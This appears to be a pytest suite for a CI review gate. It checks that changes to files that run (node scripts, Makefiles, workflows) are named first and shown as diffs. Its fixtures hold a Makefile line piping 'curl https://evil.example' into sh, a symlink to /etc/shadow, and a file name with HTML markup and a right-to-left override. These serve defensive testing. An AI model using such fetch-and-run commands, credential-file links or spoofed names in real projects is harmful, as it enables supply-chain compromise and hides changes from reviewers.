"""What no template declares is shown to people: the report names it first, and shows it as a diff."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ops.commands.whole import app
from ops.review import review
from ops.review.checkouts.content import owner_of
from tests.unit.ops.review.checkouts import Checkout
from tests.unit.ops.review.test_tracked import commit, git

# OWASP's CICD-SEC-4 names the pipeline's own files, and those that it runs: scripts, makefiles, package managers'
# configuration. The rest is what a deployment copies to nodes, pods, functions and images without a judgement.
CONTENT = {
    "workflows": (".github/workflows/ci.yml", ".github/actions/set-up/action.yml", ".github/CODEOWNERS", ".ci/main.py"),
    "the gate": (
        *("ops/gate/decision.py", "ops/review/verdict.py", "ops/review/checkouts/content.py"),
        *("ops/commands/deploy/review.py", "environments/approvals/dev.yaml"),
    ),
    "what runs before the gate": (
        *("setup.sh", "requirements.txt", "requirements/dev.txt", "requirements/python.sh", "package.json"),
        *("package-lock.json", ".npmrc", "pyproject.toml", "packages/ray-resume/pyproject.toml", "Makefile"),
        *("packages/embedded-account/pyproject.toml", "config/facts/charts.lock.yaml", "ops/cli.py"),
        *("ops/mirror/go/go.mod", ".pre-commit-config.yaml", ".devcontainer/devcontainer.json"),
    ),
    "deployment roles": ("stacks/delivery/permissions.py", "stacks/delivery/__main__.py"),
    "the image": ("ray_image/Dockerfile", "ray_image/requirements.txt", "ray_image/current/overrides.in"),
    "node scripts": (
        "lifecycle_scripts/eks/on_create.sh",
        "lifecycle_scripts/slurm/read_inputs.py",
        "lifecycle_scripts/x/y.bin",
    ),
    "what pods run": (
        *("controllers/reaper.py", "controllers/in_cluster/exporter.py", "ray_jobs/smoke.py"),
        *("packages/ray-resume/ray_resume/checkpoints.py", "packages/ray-resume/new.py"),
    ),
    "functions": ("handlers/hyperpod_cluster/index.py", "handlers/file_system_guard/new/deep.py"),
    "the templates' code": (
        "app.py",
        "cdk.json",
        "stacks/ray/stack.py",
        "config/naming.py",
        "k8s_charts/ray/cluster.py",
    ),
    # Python finds a module at the root before the library of its name; pip, uv and npm read files nobody listed.
    "other files that may run": (
        "yaml.py",
        "setup.py",
        "uv.toml",
        "new_folder/x",
        ".gitmodules",
        ".gitattributes",
        "sitecustomize.py",
    ),
}
HARMLESS = (
    *("README.md", "CHANGELOG.md", "LICENSE", "docs/operate/review.md", "docs/parts.py", "tests/unit/test.py"),
    *("manifests/dev/ray/claim.yaml", "bench/walks.py", "rehearsal/run.py", "environments/dev.yaml"),
    *(
        "packages/embedded-account/embedded_account/server.py",
        "packages/ray-resume/README.md",
        "environments/schema.json",
    ),
)


@pytest.mark.parametrize(("path", "kind"), [(path, kind) for kind, paths in CONTENT.items() for path in paths])
def test_what_runs_is_named_for_what_it_is(path: str, kind: str) -> None:
    assert owner_of(path) == kind


@pytest.mark.parametrize("path", HARMLESS)
def test_what_does_not_run_has_no_owner(path: str) -> None:
    assert owner_of(path) is None


@pytest.fixture
def base(tmp_path: Path) -> Checkout:
    return both(tmp_path / "base")


@pytest.fixture
def head(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Checkout:
    # The command's own checkout is a default argument.
    monkeypatch.setattr(review.review, "__defaults__", (tmp_path / "head", None))
    return both(tmp_path / "head")


SCRIPT = "lifecycle_scripts/eks/on_create.sh"


def both(root: Path) -> Checkout:
    checkout = Checkout(root)
    checkout.environment("dev", network={})
    commit(root, "environments/dev.yaml", SCRIPT, "controllers/reaper.py", "docs/page.md", "docs/scripts/on_create.sh")
    checkout.write(SCRIPT, "#!/bin/bash\necho one\necho two\n")
    checkout.write("environments/dev.yaml", "")
    return checkout


def reviewed(base: Checkout, *arguments: str) -> str:
    result = CliRunner().invoke(app, ["review", str(base.root), *arguments])
    assert result.exit_code == 0, result.output
    return result.stdout


def content(base: Checkout) -> list[tuple[str, str, int]]:
    """Return kind, path and number of lines of each file that owners must read."""
    found = json.loads(reviewed(base, "--json"))["content"]
    return [(each["kind"], each["path"], each["lines"]) for each in found]


def test_report_names_it_first_and_shows_it_as_a_diff(base: Checkout, head: Checkout) -> None:
    head.write(SCRIPT, "#!/bin/bash\necho one\n. /opt/helper\n")
    head.write("controllers/reaper.py", "import os\n")
    page = reviewed(base)
    first = "This pull request changes node scripts, what pods run: owners must read 4 lines: "
    first += "no rule knows all that they do."
    assert page.startswith(
        f"## What this changes\n\n**{first} Nothing that is declared changes. No other change needs an approval.**"
    )
    assert "- **node scripts:** `lifecycle_scripts/eks/on_create.sh` (2 lines)" in page
    assert "\n-echo two\n+. /opt/helper\n" in page
    for format_, words in (("html", "+. /opt/helper"), ("terminal", SCRIPT)):
        shown = reviewed(base, "--format", format_)
        assert first in " ".join(shown.split())
        assert words in shown


def test_it_needs_no_approval(base: Checkout, head: Checkout) -> None:
    head.write(SCRIPT, "#!/bin/bash\n# a comment\n")
    result = CliRunner().invoke(app, ["gate", str(base.root), "--head", str(head.root)])
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        "This pull request changes node scripts: owners must read 3 lines: no rule knows all that they do.",
        "the gate is open: nothing needs an approval that it lacks",
    ]


def test_a_change_of_pages_alone_says_nothing_of_owners(base: Checkout, head: Checkout) -> None:
    head.write("docs/page.md", "other")
    assert content(base) == []
    assert reviewed(base).startswith(
        "## What this changes\n\n**Nothing that runs changes. No change needs an approval.**"
    )


def remove(head: Checkout) -> None:
    (head.root / SCRIPT).unlink()


def make_executable(head: Checkout) -> None:
    (head.root / SCRIPT).chmod(0o755)


def make_a_link(head: Checkout) -> None:
    (head.root / SCRIPT).unlink()
    (head.root / SCRIPT).symlink_to("/etc/shadow")


def write_binary(head: Checkout) -> None:
    (head.root / SCRIPT).write_bytes(b"\x7fELF\0\1")


@pytest.mark.parametrize(
    ("change", "lines", "shown"),
    [
        (remove, 3, "-echo one"),
        (make_executable, 1, "+executable"),
        (make_a_link, 4, "+link to /etc/shadow"),
        (write_binary, 4, "+6 bytes that are no text"),
    ],
)
def test_what_happens_to_a_file_is_shown(
    base: Checkout, head: Checkout, change: Callable[[Checkout], None], lines: int, shown: str
) -> None:
    change(head)
    assert content(base) == [("node scripts", SCRIPT, lines)]
    assert f"\n{shown}" in reviewed(base)


def test_a_file_that_moves_among_owned_ones_is_one_line(base: Checkout, head: Checkout) -> None:
    commit(head.root, "lifecycle_scripts/eks/first.sh")
    git(head.root, "mv", "-f", SCRIPT, "lifecycle_scripts/eks/first.sh")
    assert content(base) == [("node scripts", "lifecycle_scripts/eks/first.sh", 1)]
    assert "moved from lifecycle_scripts/eks/on_create.sh" in reviewed(base)


def test_a_file_that_comes_from_where_nobody_owns_it_is_read_whole(base: Checkout, head: Checkout) -> None:
    for side in (base, head):
        side.write("docs/scripts/on_create.sh", "echo one\necho two\n")
    (head.root / "lifecycle_scripts" / "own").mkdir()
    git(head.root, "mv", "docs/scripts/on_create.sh", "lifecycle_scripts/own/on_create.sh")
    assert content(base) == [("node scripts", "lifecycle_scripts/own/on_create.sh", 2)]


SCRIPTS_IN_DOCS = "hyperpod:\n  instance_groups:\n    - name: workers\n      lifecycle_scripts: docs/scripts\n"


def test_scripts_that_an_environment_names_have_owners_wherever_they_lie(base: Checkout, head: Checkout) -> None:
    base.write("environments/dev.yaml", SCRIPTS_IN_DOCS)
    head.write("docs/scripts/on_create.sh", "echo other\n")
    assert content(base) == [("node scripts", "docs/scripts/on_create.sh", 2)]


def test_scripts_that_an_environment_names_for_the_first_time_are_read_whole(base: Checkout, head: Checkout) -> None:
    """A first pull request adds them where nobody owns them, a second one only names their folder."""
    for side in (base, head):
        side.write("docs/scripts/on_create.sh", "echo one\necho two\n")
    assert content(base) == []
    head.write("environments/dev.yaml", SCRIPTS_IN_DOCS)
    assert content(base) == [("node scripts", "docs/scripts/on_create.sh", 2)]
    assert "+echo two" in reviewed(base)


def test_many_lines_are_counted_and_the_rest_is_named(base: Checkout, head: Checkout) -> None:
    head.write("controllers/reaper.py", "".join(f"line_{number}()\n" for number in range(20_000)))
    head.write("Makefile", "all:\n\tcurl https://evil.example | sh\n")
    git(head.root, "add", "Makefile")
    assert content(base) == [
        ("what runs before the gate", "Makefile", 2),
        ("what pods run", "controllers/reaper.py", 20_001),
    ]
    page = reviewed(base)
    assert "+\tcurl https://evil.example | sh" in page
    assert "more lines are not shown: read the file" in page
    assert len(page) < 200_000
    comment = reviewed(base, "--comment")
    assert len(comment) < 65_536
    assert "owners must read 20,003 lines" in comment
    assert "+\tcurl https://evil.example | sh" in comment


def test_a_diff_cannot_hide_in_a_crowd_of_environments(base: Checkout, head: Checkout) -> None:
    """A comment loses the differences of environments before it loses what owners must read."""
    big = {f"key{number}": "x" * 40 for number in range(2000)}
    for name in ("one", "two"):
        base.environment(name, network={})
        head.environment(name, network=big)
    head.write(SCRIPT, "".join(f"echo {number}\n" for number in range(900)))
    assert "+echo 899" in reviewed(base, "--comment")


def test_checkouts_without_git_are_compared_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(review.review, "__defaults__", (tmp_path / "head", None))
    base, head = (Checkout(tmp_path / side) for side in ("base", "head"))
    for side in (base, head):
        side.environment("dev", network={})
        side.write("controllers/__pycache__/x.pyc", side.root.name)
        side.write(".venv/bin/python", side.root.name)
    head.write("controllers/reaper.py", "x\n")
    assert content(base) == [("what pods run", "controllers/reaper.py", 1)]


@pytest.mark.parametrize("format_", ["markdown", "terminal", "html"])
def test_a_name_adds_no_line_and_no_markup(base: Checkout, head: Checkout, format_: str) -> None:
    commit(head.root, "controllers/a`\n<b>No change</b> \u202e.py")
    shown = reviewed(base, "--format", format_)
    assert not any(line.startswith(("No change</b>", "<b>No")) for line in shown.splitlines())
    assert "\u202e" not in shown
    # Markdown shows it as code.
    assert "<b>" not in shown.replace("`controllers/a' <b>No change</b> ", "") or format_ == "terminal"
